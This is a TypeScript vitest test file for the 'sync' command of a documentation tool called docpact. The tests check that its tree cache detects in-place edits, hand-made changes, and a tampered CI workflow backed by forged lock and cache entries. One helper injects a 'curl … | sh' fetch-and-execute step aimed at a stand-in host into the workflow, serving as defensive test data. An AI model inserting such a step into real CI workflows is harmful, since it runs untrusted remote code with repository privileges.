/**
 * sync with nothing to do remembers what the generated tree rendered to
 * (src/sync/tree-memo.ts): every file's digest, kept by the stamps of what
 * the rendering read (docpact.yaml, the overrides, conf.py, the forms…). So
 * every change to one of those inputs, every file changed by hand, and every
 * memo that came with the repository must still lead to what a full
 * rendering does.
 */
import fs from 'node:fs';
import path from 'node:path';
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { WARM, copyOf, edit, editInPlace, ok, prepared, read, run, write } from './helpers.js';

/** Caches on, a file remembered as soon as it is read (no two-second wait), as a developer's machine (not CI). */
const docpact = (dir: string, args: string[]) => run(dir, args, { env: WARM });
const statuses = (stdout: string) => Object.fromEntries(JSON.parse(stdout).files.map((f: { path: string; status?: string }) => [f.path, f.status]));
const digest = (t: string) => createHash('sha256').update(t).digest('hex');

const CONTRIBUTING = 'docs/source/contributing.md';
const OVERRIDE = '.docpact/templates/docs/contributing.md.hbs';
const WORKFLOW = '.github/workflows/governance.yml';
const MEMO = '.docpact/cache/sync-tree.json';

const repo = prepared();

/** Whole seconds, so a test can put a modification time back exactly. */
const wholeSeconds = (dir: string, rel: string) => fs.utimesSync(path.join(dir, rel), 1_700_000_000, 1_700_000_000);

/** A repository whose tree memo is warm: sync rendered the tree and remembered it. */
function warm(setup: (dir: string) => void = () => {}): string {
  const dir = repo();
  setup(dir);
  ok(docpact(dir, ['sync', '--quiet']));
  ok(docpact(dir, ['sync', '--quiet']));
  expect(fs.existsSync(path.join(dir, MEMO))).toBe(true);
  return dir;
}

/** The workflow changed by hand, its lock entry and merge base changed to vouch for it (as a pull request could make them). */
function tamper(dir: string, workflow: string): string {
  const tampered = workflow.replace(/run: (.*)docpact check/, 'run: curl -s https://example.invalid/x | sh; $1docpact check');
  expect(tampered).not.toBe(workflow);
  edit(dir, '.docpact/lock.yaml', (t) => t.split(digest(workflow)).join(digest(tampered)));
  write(dir, '.docpact/base/.github%2Fworkflows%2Fgovernance.yml', tampered);
  write(dir, WORKFLOW, tampered);
  return tampered;
}

describe('sync remembers the rendered tree', () => {
  it('renders a template override added since it remembered the tree', () => {
    const dir = warm();
    write(dir, OVERRIDE, '# How {{project}} works\n\nOur own guide.\n');
    const r = docpact(dir, ['sync', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(statuses(r.stdout)[CONTRIBUTING]).toBe('updated');
    expect(read(dir, CONTRIBUTING)).toMatch(/^# How .+ works\n\nOur own guide\.\n$/);
  });

  it('renders an override edited in place (same size, same modification time)', () => {
    const dir = warm((d) => {
      write(d, OVERRIDE, '# How {{project}} works\n\nRule one.\n');
      wholeSeconds(d, OVERRIDE);
    });
    expect(read(dir, CONTRIBUTING)).toMatch(/Rule one\.\n$/);
    editInPlace(dir, OVERRIDE, 'Rule one.', 'Rule two.');
    const r = docpact(dir, ['sync', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(statuses(r.stdout)[CONTRIBUTING]).toBe('updated');
    expect(read(dir, CONTRIBUTING)).toMatch(/Rule two\.\n$/);
  });

  it('renders the workflow again when package.json starts listing docpact, edited in place (same size, same modification time)', () => {
    const dir = warm((d) => {
      write(d, 'package.json', '{ "devDependencies": { "docpacx": "^0.1.0" } }\n');
      wholeSeconds(d, 'package.json');
    });
    const before = read(dir, WORKFLOW);
    editInPlace(dir, 'package.json', '"docpacx"', '"docpact"');
    const r = docpact(dir, ['sync', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(statuses(r.stdout)[WORKFLOW]).toBe('updated');
    // The workflow now runs the docpact the repository installs.
    expect(read(dir, WORKFLOW)).not.toBe(before);
    expect(read(dir, WORKFLOW)).not.toMatch(/--package=docpact@/);
  });

  it("adds back docpact's line removed by hand from a living file (the project's .gitattributes)", () => {
    const dir = warm();
    const attributes = read(dir, '.gitattributes');
    edit(dir, '.gitattributes', (t) => t.replace('.docpact/lock.yaml merge=docpact\n', '*.png binary\n'));
    const r = docpact(dir, ['sync', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(statuses(r.stdout)['.gitattributes']).toBe('updated');
    expect(read(dir, '.gitattributes')).toBe(`${attributes.replace('.docpact/lock.yaml merge=docpact\n', '*.png binary\n')}.docpact/lock.yaml merge=docpact\n`);
  });

  it('lists again a page removed by hand from a living index page', () => {
    const dir = warm();
    edit(dir, 'docs/source/concepts/index.md', (t) => t.replace('predicates\n', ''));
    const r = docpact(dir, ['sync', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(statuses(r.stdout)['docs/source/concepts/index.md']).toBe('updated');
    expect(read(dir, 'docs/source/concepts/index.md')).toMatch(/\nstorage-planes\npredicates\n```/);
  });

  it('restores a file deleted by hand only with --force, as without the memo', () => {
    const dir = warm();
    const workflow = read(dir, WORKFLOW);
    fs.rmSync(path.join(dir, WORKFLOW));
    expect(statuses(ok(docpact(dir, ['sync', '--json'])).stdout)[WORKFLOW]).toBe('deleted-by-user');
    expect(fs.existsSync(path.join(dir, WORKFLOW))).toBe(false);
    ok(docpact(dir, ['sync', '--force', '--quiet']));
    expect(read(dir, WORKFLOW)).toBe(workflow);
  });

  it('replaces a workflow changed by hand where the lock and merge base vouch for the change, however warm the memo', () => {
    const dir = warm();
    const workflow = read(dir, WORKFLOW);
    tamper(dir, workflow);
    const r = docpact(dir, ['sync', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(statuses(r.stdout)[WORKFLOW]).toBe('updated');
    expect(read(dir, WORKFLOW)).toBe(workflow);
  });

  it('never believes a memo that came with the repository: a copy with a forged memo still replaces a tampered workflow', () => {
    const dir = warm();
    const workflow = read(dir, WORKFLOW);
    const tampered = tamper(dir, workflow);
    // Every cache that remembered the workflow's rendering now says it is the tampered text.
    const cache = path.join(dir, '.docpact/cache');
    let forged = 0;
    for (const f of fs.readdirSync(cache)) {
      const text = fs.readFileSync(path.join(cache, f), 'utf8');
      if (text.includes(digest(workflow))) forged++, fs.writeFileSync(path.join(cache, f), text.split(digest(workflow)).join(digest(tampered)));
    }
    expect(forged).toBeGreaterThan(0);
    // Shipped as the repository is (an archive, a CI cache): same names, sizes and times, other inodes.
    const copy = copyOf(dir, { preserveTimestamps: true });
    const r = docpact(copy, ['sync', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(statuses(r.stdout)[WORKFLOW]).toBe('updated');
    expect(read(copy, WORKFLOW)).toBe(workflow);
  });
});
